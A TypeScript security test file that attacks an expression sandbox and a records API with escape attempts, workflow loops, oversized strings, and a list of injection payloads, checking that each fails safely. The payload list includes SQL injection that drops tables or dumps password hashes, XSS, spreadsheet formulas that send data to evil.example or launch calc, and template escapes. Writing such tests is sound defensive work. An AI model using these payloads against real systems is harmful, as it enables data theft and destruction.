/**
 * The expression sandbox, attacked through the API: every escape attempt of the corpus
 * (support/expressions.ts — prototype access, constructor chains, globals, the host,
 * runaway regular expressions and nesting, giant literals and strings) is put into a
 * form (computed field, visibility rule, cross-field rule) and a workflow (trigger guard,
 * condition, set step), submitted as a branch admin, and — where accepted — published
 * and run on a record. Each must fail safely within the time bound: refused with a
 * pointer at design time, or failed at run time, or an inert plain value; no 5xx, no
 * host data (a canary in the server's environment) in any answer, no prototype touched.
 * Workflows that would loop without waiting are refused; oversized data is refused.
 *
 * Then SQL and HTML injection strings: stored and returned byte for byte, searched as
 * plain text, and the tables intact (the browser side is inert-html.test.ts).
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ESCAPES } from './support/expressions';
import { populate, type Reply, type World } from './support/populate';

const CANARY = `canary-${Math.random().toString(36).slice(2)}`;
const TIME_BOUND_MS = 3_000;
let w: World;
beforeAll(async () => {
  process.env.BRANCHLINE_TEST_CANARY = CANARY;
  w = await populate({ records: 2 });
}, 120_000);
afterAll(async () => {
  delete process.env.BRANCHLINE_TEST_CANARY;
  await w?.app.close();
});

const t = (en: string) => ({ 'zh-CN': en, en });
const FIELDS = [
  { key: 'company', type: 'text', label: t('Company') },
  { key: 'notes', type: 'textarea', label: t('Notes') },
  { key: 'amount', type: 'number', label: t('Amount') },
];
let n = 0;

type Placement = { name: string; build: (expr: string, key: string) => Record<string, unknown>; pointer: RegExp };
const FORM_PLACES: Placement[] = [
  { name: 'computed field', build: (e, key) => ({ schemaVersion: 1, kind: 'form', key, title: t('X'), fields: [...FIELDS, { key: 'calc', type: 'computed', label: t('Calc'), expression: e, resultType: 'text' }] }), pointer: /^\/definition\/fields\/3\/expression/ },
  { name: 'visibility rule', build: (e, key) => ({ schemaVersion: 1, kind: 'form', key, title: t('X'), fields: [...FIELDS, { key: 'extra', type: 'text', label: t('Extra'), visibleWhen: e }] }), pointer: /^\/definition\/fields\/3\/visibleWhen/ },
  { name: 'cross-field rule', build: (e, key) => ({ schemaVersion: 1, kind: 'form', key, title: t('X'), fields: FIELDS, rules: [{ id: 'r', assert: e, message: t('No') }] }), pointer: /^\/definition\/rules\/0\/assert/ },
];
const flow = (key: string, form: string, parts: { when?: string; condition?: string; set?: string }) => ({
  schemaVersion: 1, kind: 'workflow', key, title: t('X'),
  trigger: { type: 'record.created', form, ...(parts.when ? { when: parts.when } : {}) },
  start: 'c',
  nodes: [
    { id: 'c', kind: 'condition', expression: parts.condition ?? 'true' },
    { id: 's', kind: 'set', assignments: [{ target: 'record', key: 'notes', expression: parts.set ?? '"ok"' }] },
    { id: 'e', kind: 'end', outcome: 'ok' },
  ],
  edges: [{ id: 'e1', from: 'c', to: 's', port: 'true' }, { id: 'e2', from: 's', to: 'e' }],
});
const FLOW_PLACES: Placement[] = [
  { name: 'trigger guard', build: (e, key) => flow(key, `${key}-form`, { when: e.replaceAll('company', 'record.company') }), pointer: /^\/definition\/trigger\/when/ },
  { name: 'condition', build: (e, key) => flow(key, `${key}-form`, { condition: e.replaceAll('company', 'record.company') }), pointer: /^\/definition\/nodes\/0\/expression/ },
  { name: 'set step', build: (e, key) => flow(key, `${key}-form`, { set: e.replaceAll('company', 'record.company') }), pointer: /^\/definition\/nodes\/1\/assignments\/0\/expression/ },
];

/** A call that must answer in time, without a 5xx, and without host data. */
async function safe(problems: string[], what: string, method: string, url: string, body?: unknown): Promise<Reply> {
  const t0 = performance.now();
  const res = await w.call(method, url, 'eastAdmin', body);
  const ms = performance.now() - t0;
  if (res.status >= 500) problems.push(`${what}: ${method} ${url} → ${res.status} ${res.text.slice(0, 200)}`);
  if (ms > TIME_BOUND_MS) problems.push(`${what}: ${method} ${url} took ${Math.round(ms)} ms`);
  if (res.text.includes(CANARY) || /root:x:0:0|uid=\d+|\[native code\]|function\s*\(/.test(res.text)) problems.push(`${what}: ${method} ${url} returned host data: ${res.text.slice(0, 200)}`);
  return res;
}

const isInert = (v: unknown) => v === undefined || v === null || ['string', 'number', 'boolean'].includes(typeof v) || (typeof v === 'object' && JSON.stringify(v).length < 10_000);

describe('sandbox escape attempts through definitions and workflows', () => {
  it(`all ${ESCAPES.length} attempts × ${FORM_PLACES.length + FLOW_PLACES.length} places fail safely within ${TIME_BOUND_MS} ms`, async () => {
    const problems: string[] = [];
    const outcome = { refused: 0, failed: 0, inert: 0 };
    for (const expr of ESCAPES) {
      for (const place of FORM_PLACES) {
        const key = `esc-${n++}`;
        const what = `${place.name} ← ${expr.slice(0, 80)}`;
        const created = await safe(problems, what, 'POST', '/definitions', { definition: place.build(expr, key) });
        if (created.status === 422) {
          outcome.refused += 1;
          const pointers = (created.body.errors as { pointer: string }[]).map((e) => e.pointer);
          if (!pointers.some((p) => place.pointer.test(p)) && !pointers.some((p) => p.startsWith('/definition'))) problems.push(`${what}: refused without a pointer into the definition: ${pointers.join(', ')}`);
          continue;
        }
        if (created.status !== 201) {
          problems.push(`${what}: ${created.status}`);
          continue;
        }
        const id = created.body.id as string;
        const published = await safe(problems, what, 'POST', `/definitions/${id}/publish`);
        if (published.status !== 200) {
          outcome.refused += 1;
          continue;
        }
        const rec = await safe(problems, what, 'POST', `/definitions/${id}/records`, { data: { company: 'Acme', notes: 'n', amount: 1 } });
        if (rec.status === 201) {
          outcome.inert += 1;
          if (!isInert(rec.body.data.calc)) problems.push(`${what}: computed ${JSON.stringify(rec.body.data.calc).slice(0, 100)}`);
        } else if (rec.status === 422) outcome.failed += 1;
        else problems.push(`${what}: submission → ${rec.status}`);
      }
      for (const place of FLOW_PLACES) {
        const key = `esc-${n++}`;
        const what = `${place.name} ← ${expr.slice(0, 80)}`;
        const form = await safe(problems, what, 'POST', '/definitions', { definition: { schemaVersion: 1, kind: 'form', key: `${key}-form`, title: t('F'), fields: FIELDS } });
        await safe(problems, what, 'POST', `/definitions/${form.body.id}/publish`);
        const created = await safe(problems, what, 'POST', '/definitions', { definition: place.build(expr, key) });
        if (created.status === 422) {
          outcome.refused += 1;
          continue;
        }
        if (created.status !== 201) {
          problems.push(`${what}: ${created.status}`);
          continue;
        }
        if ((await safe(problems, what, 'POST', `/definitions/${created.body.id}/publish`)).status !== 200) {
          outcome.refused += 1;
          continue;
        }
        const rec = await safe(problems, what, 'POST', `/definitions/${form.body.id}/records`, { data: { company: 'Acme', notes: 'n', amount: 1 } });
        if (rec.status !== 201) {
          problems.push(`${what}: a record on a form with a published workflow → ${rec.status}`);
          continue;
        }
        const runs = await safe(problems, what, 'GET', `/runs?recordId=${rec.body.id}`);
        // A guard that did not hold (or could not be evaluated) starts nothing.
        if ((runs.body.items as unknown[]).length === 0) outcome.inert += 1;
        for (const run of runs.body.items as { id: string; status: string }[]) {
          const detail = await safe(problems, what, 'GET', `/runs/${run.id}`);
          if (run.status === 'failed') outcome.failed += 1;
          else if (run.status === 'completed') {
            outcome.inert += 1;
            if (!isInert(detail.body.record?.notes)) problems.push(`${what}: set ${JSON.stringify(detail.body.record?.notes).slice(0, 100)}`);
          } else problems.push(`${what}: run ${run.status}`);
        }
      }
    }
    expect(problems).toEqual([]);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(Object.prototype).not.toHaveProperty('polluted');
    expect(outcome.refused).toBeGreaterThan(ESCAPES.length * 3);
    expect(outcome.refused + outcome.failed + outcome.inert).toBeGreaterThanOrEqual(ESCAPES.length * 6);
    console.log(`sandbox-api: ${ESCAPES.length} attempts × 6 places: ${outcome.refused} refused at design time, ${outcome.failed} failed at run time, ${outcome.inert} evaluated to inert values`);
  }, 600_000);

  it('workflows that would loop without waiting are refused; a long straight chain runs within the bound', async () => {
    const problems: string[] = [];
    const form = await safe(problems, 'loop form', 'POST', '/definitions', { definition: { schemaVersion: 1, kind: 'form', key: 'loop-form', title: t('F'), fields: FIELDS } });
    await safe(problems, 'loop form', 'POST', `/definitions/${form.body.id}/publish`);
    const cycle = (nodes: unknown[], edges: unknown[]) => ({ schemaVersion: 1, kind: 'workflow', key: `loop-${n++}`, title: t('L'), trigger: { type: 'record.created', form: 'loop-form' }, start: 'a', nodes, edges });
    const loops = [
      cycle([{ id: 'a', kind: 'set', assignments: [{ target: 'record', key: 'amount', expression: 'record.amount + 1.0' }] }], [{ id: 'e', from: 'a', to: 'a' }]),
      cycle(
        [{ id: 'a', kind: 'condition', expression: 'record.amount > 0.0' }, { id: 'b', kind: 'set', assignments: [{ target: 'record', key: 'amount', expression: 'record.amount + 1.0' }] }],
        [{ id: 'e1', from: 'a', to: 'b', port: 'true' }, { id: 'e2', from: 'b', to: 'a' }],
      ),
      cycle(
        [{ id: 'a', kind: 'notify', channel: 'inbox', to: { strategy: 'owner' }, message: t('spam') }, { id: 'b', kind: 'task', name: t('T'), assignee: { strategy: 'owner' }, wait: false }],
        [{ id: 'e1', from: 'a', to: 'b' }, { id: 'e2', from: 'b', to: 'a', port: 'done' }],
      ),
    ];
    for (const def of loops) {
      // A draft may keep problems while it is being designed; publishing it is what must be refused.
      const res = await safe(problems, 'loop', 'POST', '/definitions', { definition: def });
      const published = res.status === 201 ? await safe(problems, 'loop', 'POST', `/definitions/${res.body.id}/publish`) : res;
      if (published.status !== 422) problems.push(`a loop without a wait was ${published.status}, not refused: ${JSON.stringify(def).slice(0, 200)}`);
      else if (!(published.body.errors as { code: string }[]).some((e) => /cycle|loop/.test(e.code))) problems.push(`a loop refused for another reason: ${published.text.slice(0, 300)}`);
    }
    const chain = Array.from({ length: 900 }, (_x, i) => ({ id: `n${i}`, kind: 'set', assignments: [{ target: 'record', key: 'notes', expression: `record.notes + "${i % 10}"` }] }));
    const long = cycle([...chain.map((c, i) => (i === 0 ? { ...c, id: 'a' } : c)), { id: 'end', kind: 'end' }], chain.map((_c, i) => ({ id: `e${i}`, from: i === 0 ? 'a' : `n${i}`, to: i + 1 < chain.length ? `n${i + 1}` : 'end' })));
    const created = await safe(problems, 'chain', 'POST', '/definitions', { definition: long });
    expect(created.status).toBe(201);
    await safe(problems, 'chain', 'POST', `/definitions/${created.body.id}/publish`);
    const rec = await safe(problems, 'chain', 'POST', `/definitions/${form.body.id}/records`, { data: { company: 'Acme', notes: '', amount: 1 } });
    expect(rec.status).toBe(201);
    expect(problems).toEqual([]);
  }, 120_000);

  it('giant strings are refused or stored whole, never half-evaluated', async () => {
    const problems: string[] = [];
    const concat = Array.from({ length: 16 }, () => 'company').join(' + ');
    const form = await safe(problems, 'giant', 'POST', '/definitions', { definition: { schemaVersion: 1, kind: 'form', key: 'giant', title: t('G'), fields: [...FIELDS, { key: 'calc', type: 'computed', label: t('C'), expression: `size(${concat})`, resultType: 'number' }] } });
    if (form.status === 201) {
      await safe(problems, 'giant', 'POST', `/definitions/${form.body.id}/publish`);
      for (const size of [1_000, 60_000, 900_000]) {
        const rec = await safe(problems, `giant ${size}`, 'POST', `/definitions/${form.body.id}/records`, { data: { company: 'x'.repeat(size), amount: 1 } });
        if (rec.status === 201) {
          const got = await safe(problems, 'giant', 'GET', `/records/${rec.body.id}`);
          if (got.body.data.company.length !== size) problems.push(`stored ${got.body.data.company.length} of ${size} characters`);
          if (got.body.data.calc !== undefined && got.body.data.calc !== null && got.body.data.calc !== size * 16) problems.push(`computed ${got.body.data.calc} for ${size}`);
        } else if (rec.status !== 422 && rec.status !== 413) problems.push(`giant ${size} → ${rec.status}`);
      }
    } else expect(form.status).toBe(422);
    expect(problems).toEqual([]);
  }, 120_000);
});

const INJECTIONS = [
  "'; DROP TABLE records; --",
  '" OR 1=1 --',
  "%' OR '1'='1",
  "x') UNION SELECT password_hash, email FROM users --",
  '\\"; DELETE FROM audit_log; --',
  '<script>window.__pwned = 1</script>',
  '<img src=x onerror="window.__pwned = 2">',
  '"><svg onload=alert(1)>',
  '=HYPERLINK("http://evil.example/?"&A1)',
  '+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '-2+3',
  '\u202eevil\u202c',
  '{{constructor.constructor("alert(1)")()}}',
  '${process.env}',
];

describe('SQL and HTML injection strings are data', () => {
  it('are stored and returned byte for byte, searched as plain text, and every table survives', async () => {
    const db = w.app.svc.store.sqlite;
    const tables = () => db.prepare("SELECT count(*) FROM sqlite_master WHERE type = 'table'").pluck().get() as number;
    const counts = () => (['records', 'users', 'audit_log'] as const).map((x) => db.prepare(`SELECT count(*) FROM ${x}`).pluck().get() as number);
    const before = { tables: tables(), counts: counts() };
    const ids: string[] = [];
    for (const [i, s] of INJECTIONS.entries()) {
      const res = await w.call('POST', `/definitions/${w.ids.east.definition}/records`, 'eastRep', { data: { company: s, region: 'east', amount: i, notes: s } });
      expect(res.status, s).toBe(201);
      expect(res.body.data.company).toBe(s);
      ids.push(res.body.id);
      const got = await w.call('GET', `/records/${res.body.id}`, 'eastRep');
      expect(got.body.data).toMatchObject({ company: s, notes: s });
      // Search is a plain substring: the injection finds exactly the records that contain it.
      const found = await w.call('GET', `/records?q=${encodeURIComponent(s)}&limit=200`, 'eastRep');
      expect(found.status).toBe(200);
      for (const r of found.body.items as { data: Record<string, unknown> }[]) expect(JSON.stringify(r.data).toLowerCase()).toContain(JSON.stringify(s).slice(1, -1).toLowerCase());
      expect((found.body.items as { id: string }[]).some((r) => r.id === res.body.id)).toBe(true);
    }
    expect(tables()).toBe(before.tables);
    const [records, users] = counts();
    expect(records).toBe(before.counts[0]! + INJECTIONS.length);
    expect(users).toBe(before.counts[1]);
    const audit = await w.call('GET', `/audit?entity=record:${ids[0]}`, 'auditor');
    expect(audit.body.items.length).toBeGreaterThan(0);
    expect((await w.call('GET', '/audit/verify', 'auditor')).body.ok).toBe(true);
  });
});
